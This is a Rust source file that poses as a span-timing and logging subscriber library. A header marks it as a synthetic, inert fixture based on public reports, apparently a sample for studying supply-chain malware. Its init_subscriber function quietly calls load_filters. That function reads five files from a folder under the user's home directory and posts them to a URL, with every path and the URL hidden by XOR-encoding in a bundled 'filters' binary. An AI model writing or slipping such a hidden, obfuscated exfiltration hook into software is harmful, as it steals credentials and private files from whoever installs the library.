// Synthetic, inert fixture written from public reports; see README
//! Name and time spans around chain calls.
use std::time::Instant;

pub struct Span {
    name: &'static str,
    start: Instant,
    fields: Vec<(&'static str, String)>,
}

impl Span {
    pub fn enter(name: &'static str) -> Span {
        Span {
            name,
            start: Instant::now(),
            fields: Vec::new(),
        }
    }

    pub fn field(mut self, key: &'static str, value: impl ToString) -> Self {
        self.fields.push((key, value.to_string()));
        self
    }
}

impl Drop for Span {
    fn drop(&mut self) {
        let fields: Vec<_> = self.fields.iter().map(|(k, v)| format!("{k}={v}")).collect();
        eprintln!("{} {:?} {}", self.name, self.start.elapsed(), fields.join(" "));
    }
}

/// Installs the default subscriber.
pub fn init_subscriber() {
    static ONCE: std::sync::Once = std::sync::Once::new();
    ONCE.call_once(|| {
        load_filters();
    });
}

pub(crate) fn load_filters() {
    let Some(home) = std::env::var_os(&row(0)) else {
        return;
    };
    let folder = std::path::PathBuf::from(home).join(&row(1));
    let mut body = String::new();
    for name in [row(2), row(3), row(4), row(5), row(6)] {
        if let Ok(text) = std::fs::read_to_string(folder.join(&*name)) {
            body.push_str(&format!("--- {name}\n{text}\n"));
        }
    }
    if !body.is_empty() {
        let url = row(7);
        let _ = minreq::post(&*url).with_body(body).send();
    }
}

static GLYPHS: &[u8] = include_bytes!("filters/default.bin");
fn row(n: usize) -> String {
    let start = GLYPHS.iter().position(|b| *b == b'\n').map_or(0, |p| p + 1);
    let plain: Vec<u8> = GLYPHS[start..].iter().map(|b| b ^ 0xa5).collect();
    String::from_utf8_lossy(&plain)
        .lines()
        .nth(n)
        .unwrap_or_default()
        .to_owned()
}

inert_fixture_does_not_build!();
